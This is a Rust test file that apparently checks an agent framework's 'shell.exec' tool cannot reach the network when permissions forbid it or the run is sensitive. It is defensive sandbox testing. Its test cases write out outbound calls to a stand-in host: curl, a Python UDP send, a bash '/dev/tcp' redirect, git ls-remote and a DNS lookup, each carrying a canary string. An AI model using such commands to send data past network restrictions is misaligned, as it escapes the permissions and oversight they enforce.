//! Family E, row 7, through the tool itself: what `shell.exec` starts reaches the trap where the spec
//! permits the network, and nobody where it does not, or where the run is sensitive.

use aldo::capabilities::PrivacyTier;
use aldo::spec::NetworkPermission;
use serde_json::json;

use super::in_rig;
use super::network::{Rig, STRANGER};
use crate::tools::Workshop;

const CANARY: &str = "shell4711canary";

#[track_caller]
fn is_kept(rig: &mut Rig, program: &str, args: &[&str]) {
    let mut workshop = Workshop::new();
    workshop.guards = json!({"shell": {"allow": [program]}});
    let call = json!({"program": program, "args": args, "timeout_ms": 20_000});
    workshop.permissions.network = NetworkPermission::Full;
    let open = workshop.outcome("shell.exec", call.clone());
    assert!(
        rig.left().packets > 0,
        "control: {program} reached nobody: {open:?}"
    );
    for (tier, network) in [
        (PrivacyTier::Internal, NetworkPermission::None),
        (PrivacyTier::Internal, NetworkPermission::Loopback),
        (PrivacyTier::Sensitive, NetworkPermission::Full),
    ] {
        (workshop.tier, workshop.permissions.network) = (tier, network);
        let closed = workshop.outcome("shell.exec", call.clone());
        assert!(
            !closed.text().starts_with("exit code 0"),
            "{program}: {closed:?}"
        );
        let left = rig.left();
        assert_eq!(
            (left.packets, left.messages.len()),
            (0, 0),
            "{program}: {closed:?}"
        );
    }
}

#[test]
fn e07_shell_exec_reaches_nobody_with_curl() {
    in_rig(|rig| {
        let url = format!("http://{STRANGER}/{CANARY}");
        is_kept(
            rig,
            "curl",
            &["-sS", "--fail", "--noproxy", "*", "-m", "3", &url],
        );
    });
}

#[test]
fn e07_shell_exec_reaches_nobody_with_python() {
    in_rig(|rig| {
        let udp = format!(
            "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{CANARY}', ('{STRANGER}', 53))"
        );
        is_kept(rig, "python3", &["-c", &udp]);
    });
}

#[test]
fn e07_shell_exec_reaches_nobody_with_a_shell_and_its_child() {
    in_rig(|rig| {
        let script = format!("setsid --wait bash -c 'echo {CANARY} > /dev/tcp/{STRANGER}/80'");
        is_kept(rig, "bash", &["-c", &script]);
    });
}

#[test]
fn e07_shell_exec_reaches_nobody_with_git() {
    in_rig(|rig| {
        is_kept(
            rig,
            "git",
            &["ls-remote", &format!("http://{STRANGER}/{CANARY}")],
        );
    });
}

#[test]
fn e07_shell_exec_looks_up_no_name() {
    in_rig(|rig| is_kept(rig, "getent", &["ahosts", &format!("{CANARY}.test")]));
}
